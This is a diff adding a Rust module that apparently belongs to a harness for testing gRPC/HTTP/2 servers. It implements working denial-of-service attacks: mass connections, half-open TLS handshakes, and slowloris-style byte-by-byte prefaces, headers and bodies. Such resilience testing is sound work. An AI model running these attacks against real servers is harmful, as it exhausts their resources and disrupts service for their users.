@@ -1,0 +1,149 @@
+//! Connections: many of them, and such as never get to the point.
+
+use std::time::Duration;
+
+use tokio::time::interval;
+
+use crate::attacker::{Attacker, Over, request, request_fields, request_with, streams};
+use crate::frames::data;
+use crate::support::{CONTINUATION, END_STREAM, HEADERS, PREFACE, block, frame};
+use crate::{Attack, Cost, Victim};
+
+const SAY_HELLO: &str = "/helloworld.Greeter/SayHello";
+/// Connections of each attacker.
+const CONNECTIONS: usize = 80;
+/// How often a slow peer says a byte.
+const PACE: Duration = Duration::from_millis(100);
+
+pub fn attacks() -> Vec<Attack> {
+    vec![
+        Attack {
+            name: "many_connections",
+            server: Victim::Tutorials,
+            cost: Cost::Control,
+            ends: &["left", "open"],
+            round: |attacker| Box::pin(many_connections(attacker)),
+        },
+        Attack {
+            name: "half_open_tls_handshakes",
+            server: Victim::Tls,
+            cost: Cost::Control,
+            ends: &["closed", "open"],
+            round: |attacker| Box::pin(half_open_handshakes(attacker)),
+        },
+        Attack {
+            name: "slow_preface",
+            server: Victim::Tutorials,
+            cost: Cost::Control,
+            ends: &["closed", "open"],
+            round: |attacker| Box::pin(slow_preface(attacker)),
+        },
+        Attack {
+            name: "slow_headers",
+            server: Victim::Tutorials,
+            cost: Cost::Control,
+            ends: &["closed", "open", "GOAWAY 11 header_block_timeout"],
+            round: |attacker| Box::pin(slow_headers(attacker)),
+        },
+        Attack {
+            name: "slow_body",
+            server: Victim::Tutorials,
+            cost: Cost::Unread,
+            ends: &["open"],
+            round: |attacker| Box::pin(slow_body(attacker)),
+        },
+    ]
+}
+
+/// Connects often, has a call answered each time, and leaves.
+async fn many_connections(attacker: &mut Attacker) -> Result<(), Over> {
+    let mut crowd = crowd(attacker).await;
+    for one in &mut crowd {
+        one.begin(&[]).await?;
+        one.send(&request_with(1, END_STREAM, SAY_HELLO, &[]))
+            .await?;
+    }
+    for one in &mut crowd {
+        one.hear(|heard| heard.answers == 1).await?;
+    }
+    Ok(())
+}
+
+/// Begins handshakes that never end.
+async fn half_open_handshakes(attacker: &mut Attacker) -> Result<(), Over> {
+    // The beginning of a ClientHello. RFC 8446 §4.1.2, §5.1.
+    const HELLO: &[u8] = &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];
+    let mut crowd = crowd(attacker).await;
+    for one in &mut crowd {
+        one.send(HELLO).await?;
+    }
+    attacker.send(HELLO).await?;
+    attacker.listen().await?;
+    Ok(())
+}
+
+/// A preface byte by byte.
+async fn slow_preface(attacker: &mut Attacker) -> Result<(), Over> {
+    let mut crowd = crowd(attacker).await;
+    let mut pace = interval(PACE);
+    for byte in PREFACE.iter().cycle() {
+        pace.tick().await;
+        attacker.send(&[*byte]).await?;
+        for one in &mut crowd {
+            one.send(&[*byte]).await?;
+        }
+    }
+    Ok(())
+}
+
+/// A header block byte by byte.
+async fn slow_headers(attacker: &mut Attacker) -> Result<(), Over> {
+    let mut crowd = crowd(attacker).await;
+    let fields = block(&request_fields(SAY_HELLO, &[("x-a", &"a".repeat(1_000))]));
+    attacker.begin(&[]).await?;
+    attacker.send(&frame(HEADERS, 0, 1, &[])).await?;
+    for one in &mut crowd {
+        one.begin(&[]).await?;
+        one.send(&frame(HEADERS, 0, 1, &[])).await?;
+    }
+    let mut pace = interval(PACE);
+    for byte in fields {
+        pace.tick().await;
+        let piece = frame(CONTINUATION, 0, 1, &[byte]);
+        attacker.send(&piece).await?;
+        for one in &mut crowd {
+            one.send(&piece).await?;
+        }
+    }
+    Ok(())
+}
+
+/// Messages byte by byte, of as many calls as there may be at once.
+async fn slow_body(attacker: &mut Attacker) -> Result<(), Over> {
+    const STREAMS: usize = 990;
+    // Four megabytes are announced.
+    const PREFIX: &[u8] = &[0, 0, 0x40, 0, 0];
+    attacker.begin(&[]).await?;
+    for stream in streams().take(STREAMS) {
+        attacker.send(&request(stream, SAY_HELLO, &[])).await?;
+        attacker.send(&data(stream, PREFIX)).await?;
+    }
+    let byte_each: Vec<u8> = streams()
+        .take(STREAMS)
+        .flat_map(|it| data(it, b"x"))
+        .collect();
+    let mut pace = interval(PACE);
+    loop {
+        pace.tick().await;
+        attacker.send(&byte_each).await?;
+    }
+}
+
+/// More connections of the same attacker.
+async fn crowd(attacker: &Attacker) -> Vec<Attacker> {
+    let mut crowd = Vec::new();
+    for _ in 1..CONNECTIONS {
+        crowd.push(attacker.another().await.expect("a connection"));
+    }
+    crowd
+}
